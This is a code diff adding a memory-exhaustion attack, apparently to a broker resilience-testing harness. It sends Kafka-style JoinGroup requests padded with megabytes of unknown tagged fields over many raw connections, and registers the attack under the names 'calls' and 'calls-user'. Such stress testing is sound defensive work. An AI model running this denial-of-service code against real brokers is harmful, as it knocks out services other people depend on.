@@ -13,7 +13,15 @@ import time
 from collections.abc import Callable, Iterator
 from typing import Final
 
-from attack.attacks import DESCRIBE_GROUPS, JOIN_GROUP, Attack, Target, await_coordinator
+from attack.attacks import (
+    DESCRIBE_GROUPS,
+    JOIN_GROUP,
+    Attack,
+    Target,
+    await_coordinator,
+    compact,
+    unsigned_varint,
+)
 from brokerlab.raw_client import frame, request_header
 
 ATTACK_S: Final = 20.0
@@ -191,6 +199,33 @@ def leave_unread(target: Target, count: int, addresses: int = 1, *, logs_in: boo
     return f"{opened:,} connections opened, {closed:,} closed"
 
 
+JOIN_SIZES: Final = (*[7_900_000] * 15, *[1_000_000] * 4, *[100_000] * 10, *[10_000] * 10, *[500] * 30)
+"""The bytes of the joins. Each fills what the larger ones have left."""
+
+
+def park_joins(target: Target, addresses: int = 1, *, logs_in: bool = False) -> str:
+    """Parks joins with megabytes of unknown tagged fields for weeks, then closes their connections."""
+    sources = _addresses(addresses)
+    where = target.sasl_address if logs_in else target.broker.bootstrap
+    host, port = where.rsplit(":", 1)
+    sent = 0
+    with large_group(target, "parked", 1, 10), contextlib.ExitStack() as stack:
+        for number, size in enumerate(JOIN_SIZES):
+            connection = stack.enter_context(connect((host, int(port)), sources[number % len(sources)]))
+            if logs_in:
+                log_in(connection)
+            body = compact("parked") + struct.pack(">ii", 300_000, 2**31 - 1) + compact("")
+            body += compact(f"i{number}") + compact("consumer") + b"\2" + compact("range") + b"\2x\0"
+            body += b"\1" + unsigned_varint(100) + unsigned_varint(size) + bytes(size)
+            with contextlib.suppress(OSError):
+                connection.sendall(frame(request_header(JOIN_GROUP, 6, 1, True) + body))
+                sent += 1
+        time.sleep(5)
+        stack.pop_all().close()
+        time.sleep(5)
+    return f"{sent} joins sent"
+
+
 def _has_ended(connection: socket.socket) -> bool:
     """Returns whether the broker has closed the connection, without reading from it."""
     poller = select.poll()
@@ -236,5 +271,15 @@ FILLING_ATTACKS: Final = (
         "unread-user",
         "the same in 200 connections of a user with 200 addresses",
         lambda target: leave_unread(target, 200, addresses=200, logs_in=True),
+    ),
+    _holding(
+        "calls",
+        "15 joins of a group with 8 MB of unknown fields, and smaller ones; connections close after 5 s",
+        park_joins,
+    ),
+    _holding(
+        "calls-user",
+        "the same from 15 addresses of a user",
+        lambda target: park_joins(target, 15, logs_in=True),
     ),
 )
